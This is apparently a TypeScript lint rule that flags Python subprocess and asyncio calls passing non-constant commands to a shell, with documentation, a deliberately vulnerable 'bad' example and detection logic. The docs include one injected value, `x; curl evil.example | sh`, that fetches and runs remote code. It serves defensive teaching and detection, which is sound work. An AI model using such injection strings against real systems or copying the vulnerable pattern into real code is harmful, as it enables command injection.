import { argument } from '../../semantics/model.js';
import { callsToAny, constantTruth, excerpt, isShellSafe, mayContainWord } from '../helpers.js';
import type { Rule } from '../types.js';

/** Functions that take `shell=`: their command is the first argument, named `args`. */
const SHELL_OPTIONAL = new Set(['subprocess.run', 'subprocess.call', 'subprocess.check_call', 'subprocess.check_output', 'subprocess.Popen']);

/** Functions that always hand their command to a shell, with the keyword name of the command. */
const ALWAYS_SHELL: ReadonlyMap<string, string> = new Map([
  ['subprocess.getoutput', 'cmd'],
  ['subprocess.getstatusoutput', 'cmd'],
  ['asyncio.create_subprocess_shell', 'cmd'],
  ['asyncio.subprocess.create_subprocess_shell', 'cmd'],
]);
const ALWAYS_SHELL_NAMES = [...ALWAYS_SHELL.keys()];

const ADVICE = 'pass a list of arguments without shell=True, or quote every variable part with shlex.quote()';

export const subprocessShell: Rule = {
  meta: {
    id: 'K110',
    name: 'subprocess-shell',
    summary: 'A non-constant command run through the shell by `subprocess` (`shell=True`) or `asyncio`',
    severity: 'high',
    confidence: 'medium',
    cwe: [78],
    owasp: 'A03:2021-Injection',
    sources: { bandit: ['B602', 'B604'], ruff: ['S602', 'S604'] },
    defaultEnabled: true,
  },
  docs: {
    what:
      'Reports commands that are not constant and are interpreted by a shell:\n\n' +
      '- `subprocess.run`, `call`, `check_call`, `check_output` and `Popen` with `shell=True` (any literally ' +
      'true value, also through a constant name);\n' +
      '- `subprocess.getoutput`, `subprocess.getstatusoutput` and `asyncio.create_subprocess_shell`, which ' +
      'always use a shell;\n' +
      '- `shell=<a variable>` on the `subprocess` functions, at low confidence: the value is unknown, but a ' +
      'wrapper that forwards its `shell` flag runs its callers\' commands through the shell;\n' +
      '- any other function called with `shell=True` and a non-constant first argument (a project\'s own ' +
      '`run(cmd, shell=True)` helper, say), at low confidence and medium severity.\n\n' +
      'Not reported: constant commands (a fixed pipeline such as `"ls -l | wc -l"` is the programmer\'s own), ' +
      '`shell=False`, list arguments without a shell, and commands whose every variable part is quoted with ' +
      '`shlex.quote`/`shlex.join` or converted to a number (`f"kill {int(pid)}"`).\n\n' +
      'With `shell=True`, a list is reported too: on Windows the whole list is joined and given to `cmd.exe`.',
    why:
      'A shell reads its command line as a program: `;`, `|`, `&&`, backticks, `$(...)`, redirections and ' +
      'globbing all mean something. When part of the command comes from a user, a file name or another ' +
      'service, a value like `x; curl evil.example | sh` runs a second command with the privileges of the ' +
      'process. Passing the arguments as a list with the shell left off sends each one to the program ' +
      'untouched, so there is nothing to inject into. When a shell feature is truly needed, quote each ' +
      'variable part with `shlex.quote()`.',
    bad:
      'import subprocess\n\n\n' +
      'def archive(directory: str) -> None:\n' +
      '    subprocess.run(f"tar czf backup.tgz {directory}", shell=True, check=True)\n',
    good:
      'import subprocess\n\n\n' +
      'def archive(directory: str) -> None:\n' +
      '    subprocess.run(["tar", "czf", "backup.tgz", "--", directory], check=True)\n',
    references: [
      'https://cwe.mitre.org/data/definitions/78.html',
      'https://docs.python.org/3/library/subprocess.html#security-considerations',
      'https://docs.python.org/3/library/shlex.html#shlex.quote',
    ],
  },
  textHint: /shell|getoutput|getstatusoutput/,
  // No `callees`: `shell=True` on functions outside subprocess is reported too, so every call is looked at.
  call(call, ctx) {
    const model = ctx.model;
    // The calls resolving to an always-shell function come from the model's index; of the others only those
    // whose text has `shell` in it can pass `shell=`, and only they are resolved and have their arguments parsed.
    const alwaysCallee = callsToAny(model, ALWAYS_SHELL_NAMES).get(call);
    if (alwaysCallee === undefined && !mayContainWord(model, call.node, 'shell')) return;
    const callee = alwaysCallee ?? call.callee;
    const always = callee !== undefined ? ALWAYS_SHELL.get(callee) : undefined;
    if (always !== undefined) {
      const cmd = argument(call, 0, always);
      if (!cmd || isShellSafe(cmd, model)) return;
      const instead = callee?.startsWith('asyncio.') ? 'asyncio.create_subprocess_exec() with separate arguments' : 'subprocess.run() with a list of arguments';
      ctx.report({ node: call.node, message: `${callee}() always runs its command through a shell, and this command is not constant; use ${instead}` });
      return;
    }
    const shell = call.keywords.get('shell');
    if (!shell) return;
    const truth = constantTruth(shell, model);
    if (truth === false) return;
    const known = callee !== undefined && SHELL_OPTIONAL.has(callee);
    if (!known && truth !== true) return;
    const cmd = known ? argument(call, 0, 'args') : call.args[0];
    if (!cmd || isShellSafe(cmd, model)) return;
    if (!known) {
      ctx.report({
        node: call.node,
        message: `shell=True with a non-constant command: if ${excerpt(call.calleeNode, 30)}() hands it to a shell, metacharacters in it run extra commands; ${ADVICE}`,
        severity: 'medium',
        confidence: 'low',
      });
    } else if (truth === true) {
      ctx.report({ node: call.node, message: `${callee}() runs a non-constant command through the shell (shell=True); ${ADVICE}` });
    } else {
      ctx.report({
        node: call.node,
        message: `${callee}() runs a non-constant command with shell=${excerpt(shell, 30)}, which may be true; ${ADVICE}`,
        confidence: 'low',
      });
    }
  },
};
